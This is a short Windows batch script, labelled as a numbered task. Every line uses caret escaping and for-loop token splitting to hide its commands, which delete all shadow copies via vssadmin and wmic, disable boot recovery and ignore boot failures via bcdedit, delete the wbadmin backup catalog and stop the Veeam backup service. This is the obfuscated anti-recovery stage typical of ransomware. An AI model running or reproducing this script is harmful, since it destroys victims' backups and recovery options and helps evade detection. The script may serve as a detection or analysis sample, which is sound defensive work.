REM task 3814 v4
for /f "tokens=2 delims=;" %%i ^i^n ("myzl;vssadmin;bwoq") ^d^o %%i delete sh^adow^s /^a^ll /^q^u^i^e^t
f^o^r /f "tokens=3 delims=;" %%^i ^i^n ("lttg;gqng;wmic") d^o %%^i s^ha^do^wco^py de^le^t^e
f^or /f "tokens=2 delims=~" %%^i i^n ("ikvi~bcdedit~ccbs") ^d^o %%i /^se^t {d^efa^u^lt} recov^e^r^y^e^na^b^l^ed ^no
^f^or /f "tokens=2 delims=#" %%i in ("xlnu#bcdedit#eosj") d^o %%^i /^s^e^t {^defa^ul^t} b^oo^tst^a^tus^p^ol^icy ^i^g^no^r^eall^f^ai^l^u^r^es
for /f "tokens=1 delims=~" %%^i i^n ("wbadmin~qgai~wmpx") d^o %%^i de^le^te c^atalo^g -^q^ui^e^t
^for /f "tokens=3 delims=#" %%i i^n ("vazo#lmka#net") ^d^o %%i s^t^op "Veeam Backup Catalog Data Service" /^y
